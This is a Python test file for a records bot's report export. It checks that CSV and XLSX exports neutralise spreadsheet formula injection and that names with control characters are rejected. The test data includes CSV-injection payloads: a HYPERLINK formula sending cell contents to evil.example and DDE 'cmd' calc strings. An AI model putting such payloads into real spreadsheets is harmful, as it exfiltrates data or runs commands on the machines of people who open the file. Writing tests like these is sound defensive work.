"""Spreadsheets the bureau opens never run what users typed (OWASP CSV injection): names are stored as
given, every exported cell that a spreadsheet would read as a formula is neutralised, in CSV and XLSX."""

from __future__ import annotations

import csv
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.records.errors import RecordsError
from bot.records.services import Records
from bot.records.units.register import UnitInput
from bot.reports import export
from bot.reports.cells import FORMULA_STARTS
from tests.support.outreach import T0, backend_settings, credit_code, make_turn

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
)


def hostile_store(tmp_path: Path) -> Records:
    with backend_settings("sqlite", tmp_path) as settings:
        store = Records.open(settings)
    store.people.set_role("tg:9", "inspector", "=1+1")
    for n, name in enumerate(HOSTILE, start=1):
        store.units.enrol(f"tg:{n}", name, UnitInput(name, credit_code(n), ("lab_animals",)))
        started = T0 + timedelta(days=n)
        store.sessions.start("tg:9", credit_code(n), f"=2024-00{n}", at=started)
        store.turns.record(make_turn(f"tg:{n}", started + timedelta(minutes=5)))
        store.sessions.end("tg:9", 10, "@note\t=1+1", at=started + timedelta(hours=1))
    return store


def test_exports_hold_no_formula_and_names_are_kept_as_given(tmp_path: Path) -> None:
    store = hostile_store(tmp_path)
    try:
        assert sorted(unit.name for unit in store.units.list()) == sorted(HOSTILE), "stored as given"
        rows = store.reports.session_rows(2024, {})
    finally:
        store.close()
    assert any(str(cell).startswith("=") for row in rows for cell in row), "the rows do carry the names"

    xlsx = export.write(rows, "xlsx", tmp_path / "sessions.xlsx", 2024)
    with zipfile.ZipFile(xlsx) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula element in the sheet"
    cells = [cell for row in load_workbook(xlsx).active.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [value for value in texts if value.startswith(FORMULA_STARTS)]
    assert any(value == "'" + HOSTILE[0] for value in texts), "shown with a leading apostrophe"

    out = export.write(rows, "csv", tmp_path / "sessions.csv", 2024)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        cells_csv = [cell for row in csv.reader(handle) for cell in row]
    assert not [value for value in cells_csv if value.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE[1] in cells_csv


@pytest.mark.parametrize("name", ["康源\n=1+1", "康源\t公司", "康源\r@SUM(1)", "康源\u202e公司", "\x00康源"])
def test_names_with_control_characters_are_refused(tmp_path: Path, name: str) -> None:
    with backend_settings("sqlite", tmp_path) as settings:
        store = Records.open(settings)
    try:
        with pytest.raises(RecordsError, match="控制字符"):
            store.units.add(UnitInput(name, credit_code(1), ("lab_animals",)))
        with pytest.raises(RecordsError, match="控制字符"):
            store.units.request("tg:5", "张三", name, credit_code(2))
        sheet = f'单位名称,统一社会信用代码,领域\n"{name}",{credit_code(3)},实验动物\n'.encode()
        report = store.units.import_sheet("units.csv", sheet)
        assert not report.applied and "控制字符" in report.rejected[0][1]
        assert store.units.list() == []
    finally:
        store.close()
